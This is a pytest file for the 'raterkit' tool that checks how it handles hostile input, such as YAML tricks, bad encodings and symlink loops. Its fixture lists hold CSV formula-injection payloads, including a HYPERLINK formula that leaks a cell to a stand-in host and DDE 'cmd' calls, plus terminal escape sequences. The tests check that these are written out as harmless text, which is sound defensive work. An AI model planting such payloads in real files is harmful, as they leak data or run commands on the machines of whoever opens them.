"""Hostile and malformed input, tried as an attacker would: every case gives a clear message or
inert text, in bounded time, and never a traceback.

Each folder under tests/cases/hostile holds one case: its files and ``expected.txt`` (the exit
code on the first line, then exactly what ``raterkit validate`` prints). The folder's name starts
with the class of hostile input it belongs to (``yaml-``: YAML that parses but cannot be built
into data). Re-record after an intended change of wording with ``UPDATE_GOLDEN=1``, then read
the diff.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from raterkit.cli import main
from support import TESTS, update_golden

CASES = sorted(p for p in (TESTS / "cases" / "hostile").iterdir() if p.is_dir())
#: Far above what any case takes (they take milliseconds); a hang or an expansion shows here.
BOUND_SECONDS = 20


def _command(case: Path) -> list[str]:
    """The case's command: ``args.txt`` (one argument a line) or ``raterkit validate .``."""
    args = case / "args.txt"
    return args.read_text(encoding="utf-8").splitlines() if args.exists() else ["validate", "."]


def _recorded(code: int, out: str, err: str, command: list[str]) -> str:
    if command[0] == "validate":
        return f"exit {code}\n{out}"
    return f"exit {code}\n--- printed\n{out}--- said\n{err}"


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_case_gives_its_clear_message(case: Path, capsys, monkeypatch):
    monkeypatch.chdir(case)
    command = _command(case)
    started = time.monotonic()
    code = main(command)
    elapsed = time.monotonic() - started
    captured = capsys.readouterr()
    actual = _recorded(code, captured.out, captured.err, command)
    expected_file = case / "expected.txt"
    if update_golden():
        expected_file.write_text(actual, encoding="utf-8")
    assert actual == expected_file.read_text(encoding="utf-8")
    assert "Traceback" not in captured.out + captured.err and "went wrong" not in captured.err
    assert "<unicode string>" not in actual
    assert elapsed < BOUND_SECONDS, f"{case.name} took {elapsed:.1f} s"


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_every_refusal_names_file_and_line_with_a_hint(case: Path):
    lines = (case / "expected.txt").read_text(encoding="utf-8").splitlines()
    if lines[0] != "exit 1" or _command(case)[0] != "validate":
        return  # inert input, read as text; response cases are checked by their recorded output
    headlines = [ln for ln in lines[1:] if ln and not ln.startswith("    ") and "problem" not in ln]
    assert headlines
    for ln in headlines:
        path, line, *_ = ln.split(":", 2)
        # A problem of the path itself (a broken link) or of a page that is not a data file has no line.
        about_the_file_itself = "link" in ln or "no such file" in ln or not path.endswith(".yaml")
        assert path.endswith((".yaml", ".md", ".ipynb")) and (line.isdigit() or about_the_file_itself), ln
    assert len([ln for ln in lines if ln.startswith("    ")]) == len(headlines)


def test_ids_that_yaml_would_change_keep_what_the_user_wrote(monkeypatch):
    from raterkit.load import load_framework

    for name, level in [("yaml-octal-looking-level-id", "010"), ("yaml-float-looking-level-id", "1.10")]:
        fw, problems = load_framework(TESTS / "cases" / "hostile" / name / "sample.yaml")
        assert problems == [] and fw is not None
        assert fw.scale[0].id == level
    fw, _ = load_framework(TESTS / "cases" / "hostile" / "yaml-hex-looking-criterion-id" / "sample.yaml")
    assert fw is not None and fw.competencies[0].criteria[0].id == "0x1F"


def test_there_are_hostile_cases_of_every_class():
    classes = {case.name.split("-")[0] for case in CASES}
    assert {"yaml", "csv", "terminal", "rows", "paths", "case", "site"} <= classes
    assert len(CASES) >= 60


# --------------------------------------------------------------------------------------------
# Formulas in CSV and escapes in the terminal: names are data, never commands

RESPONSE_DATA = TESTS / "cases" / "responses" / "_data"
KEY = {"q1": "I", "q2": "II", "q3": "III", "q4": "IV", "q5": "II"}  # the demo quiz's reference levels
FORMULA_NAMES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
TERMINAL_NAMES = [
    "Ana\x1b[2J\x1b[H",  # clear the screen
    "Bo\x1b]0;pwned\x07",  # set the window title
    "Cy\x1b[31mred",  # colour
    "Di\rOverwritten",
    "Ed\x9b2J",  # the one-byte CSI
    "Fe\x00\x08\x7f",
]


def _responses_csv(path: Path, names: list[str]) -> Path:
    import csv

    from raterkit.csvcells import protect

    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["rater", "item", "rating"])
        for name in names:
            writer.writerows([protect(name), item, level] for item, level in KEY.items())
    return path


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_score_csv_writes_formula_like_names_as_text(tmp_path, capsys, name):
    import csv
    import io

    path = _responses_csv(tmp_path / "answers.csv", [name, "Plain Name"])
    code = main(["score", str(path), "--format", "csv", "--data", str(RESPONSE_DATA)])
    out = capsys.readouterr().out
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    first = [row[0] for row in rows[1:]]
    assert first[0] == "'" + name.strip()  # the reader trims names; the writer protects them
    assert first[1] == "Plain Name"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
        assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in row)


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_a_protected_csv_reads_back_with_the_original_name(tmp_path, name):
    from raterkit.responses import read_responses

    rs = read_responses([_responses_csv(tmp_path / "answers.csv", [name])], levels=["I", "II", "III", "IV"])
    assert rs.problems == [] and rs.raters() == [name.strip()]


@pytest.mark.parametrize("name", TERMINAL_NAMES)
def test_control_characters_in_names_are_printed_visibly(tmp_path, capsys, name):
    path = _responses_csv(tmp_path / "answers.csv", [name])
    for fmt in ("table", "csv"):
        code = main(["score", str(path), "--format", fmt, "--data", str(RESPONSE_DATA)])
        captured = capsys.readouterr()
        assert code == 0
        shown = captured.out + captured.err
        assert not any(ch in shown for ch in "\x00\x07\x08\x1b\x7f\x9b\r")
        assert "\\x" in captured.out


def test_problems_quoting_file_content_are_printed_visibly(tmp_path, capsys):
    path = tmp_path / "answers.csv"
    path.write_text("rater,item,rating\nAna,q1,\x1b[2JIV\n", encoding="utf-8")
    main(["score", str(path), "--data", str(RESPONSE_DATA)])
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\x1b[2JIV" in err


# --------------------------------------------------------------------------------------------
# Identity by case: level ids unique ignoring case; rater names trimmed, near-duplicates reported


@pytest.mark.parametrize("second", ["LO", "Lo", "lO"])
def test_level_ids_that_differ_only_in_case_are_refused(tmp_path, capsys, monkeypatch, second):
    text = (TESTS / "cases" / "validate" / "01-valid-framework" / "sample.yaml").read_text(encoding="utf-8")
    (tmp_path / "sample.yaml").write_text(text.replace("{id: mid,", f"{{id: {second},").replace("id: low", "id: lo"))
    monkeypatch.chdir(tmp_path)
    code = main(["validate", "."])
    out = capsys.readouterr().out
    assert code == 1
    assert f"sample.yaml:6: scale[1].id: id '{second}' differs from 'lo' (line 5) only in case" in out


@pytest.mark.parametrize(
    "names",
    [["Ana", "ana ", "ANA"], ["Ana Ruiz", "Ana  Ruiz", "ana ruiz"], ["Bo", " Bo"], ["Ümit", "ümit"]],
)
def test_rater_names_are_trimmed_and_near_duplicates_named_with_their_lines(tmp_path, capsys, monkeypatch, names):
    from raterkit.responses import read_responses

    monkeypatch.chdir(tmp_path)
    path = Path("answers.csv")
    path.write_text("rater,item,rating\n" + "".join(f"{n},q{i},I\n" for i, n in enumerate(names)), encoding="utf-8")
    rs = read_responses([path], levels=["I", "II"])
    distinct = list(dict.fromkeys(n.strip() for n in names))
    assert rs.raters() == distinct and rs.kept == len(names)
    if len(distinct) > 1:
        assert len(rs.notes) == 1 and rs.notes[0].line == 2
        assert all(f"'{n}' answers.csv:{line}" in rs.notes[0].message for line, n in enumerate(distinct, start=2))
        main(["agreement", str(path), "--levels", "I,II"])
        assert "warning: " in capsys.readouterr().err
    else:
        assert rs.notes == []


# --------------------------------------------------------------------------------------------
# Good response rows are never lost: every physical row is read, counted, and kept or reported


def _read(tmp_path, monkeypatch, raw: bytes):
    from raterkit.responses import read_responses

    monkeypatch.chdir(tmp_path)
    Path("answers.csv").write_bytes(raw)
    return read_responses(["answers.csv"], levels=["I", "II", "III", "IV"])


GOOD = [f"R{i},q{i},II" for i in range(1, 7)]


@pytest.mark.parametrize(
    "bad",
    [
        "José,q0,I".encode("cp1252"),  # Latin-1
        "Ana,q0,\xff\xfe".encode("latin-1"),  # stray bytes
        b"\x80\x81\x82",  # no text at all
        "Zoë,q0,I".encode("utf-16-le"),  # a line in another encoding
    ],
)
def test_a_line_in_another_encoding_skips_only_itself(tmp_path, monkeypatch, bad):
    raw = b"rater,item,rating\n" + "\n".join(GOOD[:3]).encode() + b"\n" + bad + b"\n" + "\n".join(GOOD[3:]).encode()
    rs = _read(tmp_path, monkeypatch, raw)
    assert [p.line for p in rs.problems] == [5] and "not UTF-8" in rs.problems[0].message
    assert (rs.read, rs.kept, rs.skipped) == (7, 6, 1)


@pytest.mark.parametrize("size", [10_001, 200_000, 2_000_000])
def test_a_huge_cell_skips_only_its_row(tmp_path, monkeypatch, size):
    raw = ("rater,item,rating\n" + "\n".join(GOOD[:2]) + f"\nAna,q9,{'I' * size}\n" + "\n".join(GOOD[2:])).encode()
    rs = _read(tmp_path, monkeypatch, raw)
    assert [p.line for p in rs.problems] == [4] and "characters long" in rs.problems[0].message
    assert (rs.read, rs.kept, rs.skipped) == (7, 6, 1)


@pytest.mark.parametrize(
    "stray",
    ['Ana,q9,"II', 'Ana,"q9,II', '"Ana,q9,II', 'Ana,q9,II"x"y"', 'Ana,q9,"I""I'],
)
def test_a_stray_quote_is_reported_and_the_rows_after_it_are_kept(tmp_path, monkeypatch, stray):
    raw = ("rater,item,rating\n" + "\n".join(GOOD[:2]) + f"\n{stray}\n" + "\n".join(GOOD[2:]) + "\n").encode()
    rs = _read(tmp_path, monkeypatch, raw)
    assert {row.rater for row in rs.rows} >= {f"R{i}" for i in range(1, 7)}, [str(p) for p in rs.problems]
    assert rs.read == rs.kept + rs.skipped and rs.read >= 7
    assert all(p.line == 4 for p in rs.problems)


def test_a_quoted_name_over_two_lines_is_still_one_row(tmp_path, monkeypatch):
    rs = _read(tmp_path, monkeypatch, b'rater,item,rating\n"Ana\nRuiz",q1,I\nBo,q1,II\n')
    assert [row.rater for row in rs.rows] == ["Ana\nRuiz", "Bo"] and rs.problems == []


# --------------------------------------------------------------------------------------------
# Paths and numbers: links that loop or point nowhere are named; a huge number costs one row


def _links(folder: Path) -> None:
    folder.mkdir()
    (folder / "a.csv").write_text("rater,item,rating\nAna,q1,I\n", encoding="utf-8")
    (folder / "dangling.csv").symlink_to(folder.parent / "nowhere.csv")
    (folder / "self.csv").symlink_to(folder / "self.csv")
    (folder.parent / "loop1").symlink_to(folder.parent / "loop2")
    (folder.parent / "loop2").symlink_to(folder.parent / "loop1")


@pytest.mark.parametrize("command", ["agreement", "score"])
def test_links_that_loop_or_point_nowhere_are_named(tmp_path, capsys, monkeypatch, command):
    _links(tmp_path / "answers")
    monkeypatch.chdir(tmp_path)
    extra = ["--levels", "I,II,III,IV"] if command == "agreement" else ["--data", str(RESPONSE_DATA)]
    code = main([command, "answers", "loop1", *extra])
    err = capsys.readouterr().err
    assert code == 0 and "went wrong" not in err
    assert "answers/dangling.csv: this link points to a file that does not exist" in err
    assert "answers/self.csv: this link leads back to itself (a loop)" in err
    assert "loop1: this link leads back to itself (a loop)" in err
    assert err.splitlines()[-1] == "Read 1 row: 1 kept, 0 skipped."


def test_validate_names_broken_links_to_framework_files(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "frameworks"
    folder.mkdir()
    (folder / "gone.yaml").symlink_to(tmp_path / "nowhere.yaml")
    (folder / "self.yml").symlink_to(folder / "self.yml")
    monkeypatch.chdir(tmp_path)
    assert main(["validate", "frameworks"]) == 1
    out = capsys.readouterr().out
    assert "frameworks/gone.yaml: this link points to a file that does not exist" in out
    assert "frameworks/self.yml: this link leads back to itself (a loop)" in out


@pytest.mark.parametrize("digits", [101, 5_000, 50_000])
def test_a_huge_number_in_json_costs_only_its_row(tmp_path, monkeypatch, digits):
    import json

    from raterkit.responses import read_responses

    monkeypatch.chdir(tmp_path)
    number = "9" * digits
    body = json.dumps({"rater": "Ana", "responses": [{"item": "q1", "rating": "I"}, {"item": "q2", "rating": 0}]})
    Path("big.json").write_text(body.replace('"rating": 0', f'"rating": {number}'), encoding="utf-8")
    rs = read_responses(["big.json"], levels=["I", "II"])
    assert (rs.read, rs.kept, rs.skipped) == (2, 1, 1) and rs.problems[0].field == "rating"


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'plain", "plain", "-5", "'", "", "\t=x", "@", "'@x"])
def test_protect_and_unprotect_give_back_any_text(text):
    from raterkit.csvcells import FORMULA_START, protect, unprotect

    written = protect(text)
    assert unprotect(written) == text
    assert not written.startswith(FORMULA_START)
